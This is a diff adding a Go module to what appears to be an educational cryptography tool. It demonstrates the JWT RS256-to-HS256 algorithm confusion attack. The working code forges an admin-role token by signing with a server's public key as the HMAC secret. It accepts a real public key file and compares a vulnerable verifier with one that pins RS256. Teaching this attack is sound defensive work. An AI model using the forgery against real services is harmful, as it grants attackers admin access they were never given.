@@ -0,0 +1,251 @@
+package attacks
+
+import (
+	"crypto/hmac"
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/sha256"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/json"
+	"encoding/pem"
+	"fmt"
+	"os"
+	"strings"
+	"time"
+
+	"github.com/abdorrahmani/cryptolens/internal/utils"
+	"github.com/golang-jwt/jwt/v5"
+)
+
+// JWTAlgConfusionProcessor demonstrates the RS256 to HS256 algorithm confusion attack
+type JWTAlgConfusionProcessor struct {
+	*BaseProcessor
+	publicKeyPEM []byte
+	privateKey   *rsa.PrivateKey // Set only when simulating the server
+}
+
+// NewJWTAlgConfusionProcessor creates a new JWT algorithm confusion attack processor
+func NewJWTAlgConfusionProcessor() *JWTAlgConfusionProcessor {
+	return &JWTAlgConfusionProcessor{
+		BaseProcessor: NewBaseProcessor(),
+	}
+}
+
+// Configure loads the server's RSA public key, or simulates a server when none is given
+func (p *JWTAlgConfusionProcessor) Configure(config map[string]interface{}) error {
+	if keyFile, ok := config["publicKeyFile"].(string); ok && keyFile != "" {
+		data, err := os.ReadFile(keyFile)
+		if err != nil {
+			return fmt.Errorf("failed to read public key: %w", err)
+		}
+		if _, err := parseRSAPublicKeyPEM(data); err != nil {
+			return err
+		}
+		p.publicKeyPEM = data
+		p.privateKey = nil
+		return nil
+	}
+
+	privateKey, err := rsa.GenerateKey(rand.Reader, 2048)
+	if err != nil {
+		return fmt.Errorf("failed to generate server key: %w", err)
+	}
+	pubBytes, err := x509.MarshalPKIXPublicKey(&privateKey.PublicKey)
+	if err != nil {
+		return fmt.Errorf("failed to marshal server public key: %w", err)
+	}
+	p.privateKey = privateKey
+	p.publicKeyPEM = pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pubBytes})
+	return nil
+}
+
+// Process forges an HS256 token from an RS256 token using the public key as the HMAC secret
+func (p *JWTAlgConfusionProcessor) Process(text string, operation string) (string, []utils.Step, error) {
+	if p.publicKeyPEM == nil {
+		if err := p.Configure(nil); err != nil {
+			return "", nil, err
+		}
+	}
+	p.addIntroduction()
+
+	originalToken := strings.TrimSpace(text)
+	if len(strings.Split(originalToken, ".")) != 3 {
+		if p.privateKey == nil {
+			return "", nil, fmt.Errorf("invalid input: expected an RS256 token signed by the configured server key")
+		}
+		// Treat the input as a user name and have the simulated server issue a token
+		var err error
+		originalToken, err = p.issueServerToken(originalToken)
+		if err != nil {
+			return "", nil, err
+		}
+	}
+
+	parts := strings.Split(originalToken, ".")
+	header, err := decodeSegment(parts[0])
+	if err != nil {
+		return "", nil, fmt.Errorf("failed to decode header: %w", err)
+	}
+	if header["alg"] != "RS256" {
+		return "", nil, fmt.Errorf("invalid input: expected an RS256 token, got alg %v", header["alg"])
+	}
+	claims, err := decodeSegment(parts[1])
+	if err != nil {
+		return "", nil, fmt.Errorf("failed to decode claims: %w", err)
+	}
+
+	p.AddStep("Original Token (RS256):")
+	p.AddStep(originalToken)
+	p.AddStep("Signed with the server's RSA private key, verified with its public key")
+	p.AddSeparator()
+
+	forged, err := p.forgeToken(claims)
+	if err != nil {
+		return "", nil, err
+	}
+
+	p.verifyBoth(forged)
+	p.addSecurityImplications()
+
+	return forged, p.GetSteps(), nil
+}
+
+func (p *JWTAlgConfusionProcessor) addIntroduction() {
+	p.AddHeader("🔀 JWT Algorithm Confusion Attack (RS256 → HS256)")
+	p.AddNote("RS256 tokens are verified with a public key that anyone may know")
+	p.AddNote("If the verifier picks the algorithm from the token header, an attacker can")
+	p.AddNote("switch to HS256 and sign with the public key as the HMAC secret")
+	p.AddSeparator()
+}
+
+// issueServerToken has the simulated server sign an RS256 token for a user
+func (p *JWTAlgConfusionProcessor) issueServerToken(name string) (string, error) {
+	if name == "" {
+		name = "John Doe"
+	}
+	token := jwt.NewWithClaims(jwt.SigningMethodRS256, jwt.MapClaims{
+		"sub":  "1234567890",
+		"name": name,
+		"role": "user",
+		"exp":  time.Now().Add(time.Hour).Unix(),
+	})
+	signed, err := token.SignedString(p.privateKey)
+	if err != nil {
+		return "", fmt.Errorf("failed to sign server token: %w", err)
+	}
+	p.AddStep("Simulated server issued a token for the input name")
+	return signed, nil
+}
+
+// forgeToken escalates the claims and signs them with HMAC-SHA256 keyed by the public key PEM
+func (p *JWTAlgConfusionProcessor) forgeToken(claims map[string]interface{}) (string, error) {
+	p.AddStep("Attack Process:")
+	p.AddStep("1. Fetch the server's public key (often published, e.g. via JWKS or a PEM file)")
+	p.AddStep("2. Change the header algorithm from RS256 to HS256")
+	p.AddStep("3. Modify the claims (role: user → admin)")
+	p.AddStep("4. Sign header.payload with HMAC-SHA256 using the exact public key bytes as the secret")
+	p.AddSeparator()
+
+	claims["role"] = "admin"
+	headerJSON, err := json.Marshal(map[string]string{"alg": "HS256", "typ": "JWT"})
+	if err != nil {
+		return "", fmt.Errorf("failed to marshal header: %w", err)
+	}
+	claimsJSON, err := json.Marshal(claims)
+	if err != nil {
+		return "", fmt.Errorf("failed to marshal claims: %w", err)
+	}
+
+	signingInput := base64.RawURLEncoding.EncodeToString(headerJSON) + "." + base64.RawURLEncoding.EncodeToString(claimsJSON)
+	mac := hmac.New(sha256.New, p.publicKeyPEM)
+	mac.Write([]byte(signingInput))
+	forged := signingInput + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
+
+	p.AddTextStep("HMAC Secret (server public key PEM)", strings.TrimSpace(string(p.publicKeyPEM)))
+	p.AddArrow()
+	p.AddStep("Forged Token (HS256):")
+	p.AddStep(forged)
+	p.AddSeparator()
+	return forged, nil
+}
+
+// verifyBoth checks the forged token with a verifier that trusts the header and one that pins RS256
+func (p *JWTAlgConfusionProcessor) verifyBoth(forged string) {
+	publicKey, _ := parseRSAPublicKeyPEM(p.publicKeyPEM)
+
+	p.AddStep("Vulnerable Verifier (trusts the 'alg' header):")
+	_, err := jwt.Parse(forged, func(token *jwt.Token) (interface{}, error) {
+		// The server has one configured "key" and hands it to whichever algorithm the token names
+		if _, ok := token.Method.(*jwt.SigningMethodHMAC); ok {
+			return p.publicKeyPEM, nil
+		}
+		return publicKey, nil
+	})
+	if err == nil {
+		p.AddStep("❌ Forged token ACCEPTED: HMAC was verified with the public key as the secret")
+	} else {
+		p.AddStep(fmt.Sprintf("Forged token rejected: %v", err))
+	}
+
+	p.AddStep("Safe Verifier (only accepts RS256):")
+	_, err = jwt.Parse(forged, func(token *jwt.Token) (interface{}, error) {
+		return publicKey, nil
+	}, jwt.WithValidMethods([]string{"RS256"}))
+	if err != nil {
+		p.AddStep(fmt.Sprintf("✅ Forged token rejected: %v", err))
+	} else {
+		p.AddStep("❌ Forged token accepted")
+	}
+	p.AddSeparator()
+}
+
+func (p *JWTAlgConfusionProcessor) addSecurityImplications() {
+	p.AddStep("⚠️ Why This Works:")
+	p.AddStep("1. The verifier uses the token's own 'alg' header to choose the algorithm")
+	p.AddStep("2. The same key value is passed to RSA verification and HMAC verification")
+	p.AddStep("3. HMAC treats the public key bytes as a shared secret, and the attacker has them")
+
+	p.AddStep("✅ Best Practices:")
+	p.AddStep("1. Pin the expected algorithm on the server (e.g. jwt.WithValidMethods)")
+	p.AddStep("2. Bind each key to one algorithm, and use typed keys (*rsa.PublicKey, not []byte)")
+	p.AddStep("3. Reject tokens whose header does not match the key's algorithm")
+	p.AddStep("4. Prefer libraries that refuse to use a public key as an HMAC secret")
+}
+
+// decodeSegment decodes a base64url JSON segment of a JWT
+func decodeSegment(segment string) (map[string]interface{}, error) {
+	data, err := base64.RawURLEncoding.DecodeString(segment)
+	if err != nil {
+		return nil, err
+	}
+	var decoded map[string]interface{}
+	if err := json.Unmarshal(data, &decoded); err != nil {
+		return nil, err
+	}
+	return decoded, nil
+}
+
+// parseRSAPublicKeyPEM parses a PKIX or PKCS#1 PEM encoded RSA public key
+func parseRSAPublicKeyPEM(data []byte) (*rsa.PublicKey, error) {
+	block, _ := pem.Decode(data)
+	if block == nil {
+		return nil, fmt.Errorf("invalid public key: expected PEM")
+	}
+	if block.Type == "RSA PUBLIC KEY" {
+		key, err := x509.ParsePKCS1PublicKey(block.Bytes)
+		if err != nil {
+			return nil, fmt.Errorf("failed to parse public key: %w", err)
+		}
+		return key, nil
+	}
+	key, err := x509.ParsePKIXPublicKey(block.Bytes)
+	if err != nil {
+		return nil, fmt.Errorf("failed to parse public key: %w", err)
+	}
+	rsaKey, ok := key.(*rsa.PublicKey)
+	if !ok {
+		return nil, fmt.Errorf("invalid public key: expected RSA, got %T", key)
+	}
+	return rsaKey, nil
+}